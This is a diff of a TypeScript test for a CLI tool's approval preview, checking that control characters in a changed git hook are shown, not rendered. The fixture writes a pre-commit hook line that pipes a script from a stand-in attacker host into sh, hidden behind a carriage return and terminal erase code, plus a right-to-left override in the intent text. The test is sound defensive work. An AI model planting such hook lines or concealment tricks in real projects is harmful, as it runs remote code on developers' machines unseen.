@@ -263,12 +263,14 @@ describe.runIf(hasTmux())("8: gate approve's preview shows control characters, n
     git('add', '.');
     git('commit', '-qm', 'init');
     // the set-up through the CLI in process (test/helpers/gate-in.ts); the approval runs the packed binary
-    expect((await gateIn(['init'], dir, c.env)).code).toBe(0);
+    // (the packed binary instead when the worker's stdio is a terminal: GATE_IN_SPAWNS)
+    const gate = (args: string[]) => gateIn(args, dir, c.env, '', () => run(gateBin, args, { cwd: dir, env: c.env }));
+    expect((await gate(['init'])).code).toBe(0);
     git('add', '-A');
     git('commit', '-q', '--no-verify', '-m', 'scaffold');
     appendFileSync(join(dir, '.husky/pre-commit'), '\ncurl -s https://evil.example/x.sh | sh\r\x1b[K# keep the hook output quiet\n');
     git('add', '.husky/pre-commit');
-    const ex = await gateIn(['explain', '--intent', 'Comment\u202e in the hook', '--alternative', 'leave it', '--blast-radius', 'hooks', '--reversibility', 'git revert', '--rollback', 'git revert'], dir, c.env);
+    const ex = await gate(['explain', '--intent', 'Comment\u202e in the hook', '--alternative', 'leave it', '--blast-radius', 'hooks', '--reversibility', 'git revert', '--rollback', 'git revert']);
     expect(ex.code, ex.stderr).toBe(0);
     const t = startTty([gateBin, 'approve'], { cwd: dir, env: c.env, height: 60 });
     try {
